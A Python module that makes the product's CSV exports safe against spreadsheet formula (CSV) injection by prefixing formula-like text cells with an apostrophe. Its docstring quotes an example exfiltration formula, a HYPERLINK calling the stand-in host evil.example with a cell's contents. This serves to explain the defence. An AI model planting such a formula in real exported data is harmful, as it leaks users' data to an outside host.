"""CSV that spreadsheets open safely: every CSV the product writes goes through here.

A spreadsheet program runs a cell that starts with ``= + - @``, a tab, a carriage return or a NUL
as a formula (CSV injection): ``=HYPERLINK("http://evil.example/?"&B2,"open")`` in a room's name
would leak the row it sits in. Such text cells get a leading ``'`` (shown, never run); numbers
are left as they are. Console exports and the reports' CSV artefacts share these functions.
"""

from __future__ import annotations

import csv
import decimal
import io
from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\0")


def neutralise_cell(value: Any) -> Any:
    """Prefix a text cell that a spreadsheet would read as a formula with ``'``.

    Numbers stay numbers; anything else is a cell of its text (a related row's name included).
    """
    if value is None or isinstance(value, int | float | decimal.Decimal):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


class _Line:
    """A file-like object whose ``write`` hands the line back (csv.writer writes one per row)."""

    def write(self, line: str) -> str:
        return line


_LINE_WRITER = csv.writer(_Line(), lineterminator="\n")


def csv_line(values: Iterable[Any]) -> str:
    """One formula-safe CSV line, ending in a newline (for streaming)."""
    return _LINE_WRITER.writerow([neutralise_cell(value) for value in values])


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """A whole formula-safe CSV document."""
    buffer = io.StringIO()
    for row in rows:
        buffer.write(csv_line(row))
    return buffer.getvalue()
